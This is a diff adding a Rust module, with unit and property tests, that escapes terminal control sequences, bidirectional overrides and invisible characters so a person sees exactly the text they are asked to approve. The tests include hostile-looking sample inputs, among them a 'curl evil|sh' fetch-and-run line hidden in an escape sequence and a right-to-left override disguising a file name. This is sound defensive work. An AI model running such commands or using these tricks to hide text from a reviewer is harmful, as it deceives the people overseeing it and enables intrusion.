@@ -1,0 +1,70 @@
+//! Text that a person judges: nothing is left out, and nothing is hidden.
+//!
+//! [`super::clean`] takes terminal control out, which is right for output that is only read. What
+//! somebody is asked to allow must be shown to the last character: what a terminal would not show is
+//! written out.
+
+use std::fmt::Write;
+
+/// The text with every character that a terminal obeys or does not show written out, such as `\x1b`
+/// or `\u{202e}`. Line ends and tabs stay.
+#[must_use]
+pub fn visible(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    for char in text.chars() {
+        match char {
+            '\n' | '\t' => shown.push(char),
+            '\r' => shown.push_str("\\r"),
+            // Writing to a string can't fail.
+            _ if char.is_control() && u32::from(char) < 0x100 => drop(write!(shown, "\\x{:02x}", u32::from(char))),
+            _ if is_unseen(char) => drop(write!(shown, "\\u{{{:x}}}", u32::from(char))),
+            _ => shown.push(char),
+        }
+    }
+    shown
+}
+
+/// The same in one line: line ends are shown as ⏎.
+#[must_use]
+pub fn visible_line(text: &str) -> String {
+    visible(text.trim()).replace('\n', "⏎").replace('\t', " ")
+}
+
+/// Characters that change the order of others, or that are there without being seen.
+fn is_unseen(char: char) -> bool {
+    matches!(char,
+        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180e}'
+        | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}'
+        | '\u{feff}' | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e0fff}')
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    #[test]
+    fn what_steers_a_terminal_is_written_out_and_nothing_is_lost() {
+        for (raw, expected) in [
+            ("plain\n\ttext ✓ 漢字", "plain\n\ttext ✓ 漢字"),
+            ("true \u{1b}]; curl evil|sh; \u{7}", "true \\x1b]; curl evil|sh; \\x07"),
+            ("\u{9d}0;rm\u{9c}", "\\x9d0;rm\\x9c"),
+            ("safe\u{202e}txt.exe", "safe\\u{202e}txt.exe"),
+            ("a\u{200b}b\u{e0041}", "a\\u{200b}b\\u{e0041}"),
+            ("over\rwritten", "over\\rwritten"),
+        ] {
+            assert_eq!(visible(raw), expected);
+        }
+        assert_eq!(visible_line(" echo one\necho two\n"), "echo one⏎echo two");
+    }
+
+    proptest! {
+        #[test]
+        fn every_character_leaves_a_trace(text in "[\\PC\u{0}-\u{9f}\u{202a}-\u{202e}]{0,60}") {
+            let shown = visible(&text);
+            prop_assert!(shown.chars().all(|char| matches!(char, '\n' | '\t') || !(char.is_control() || is_unseen(char))));
+            prop_assert!(shown.chars().count() >= text.chars().count());
+        }
+    }
+}
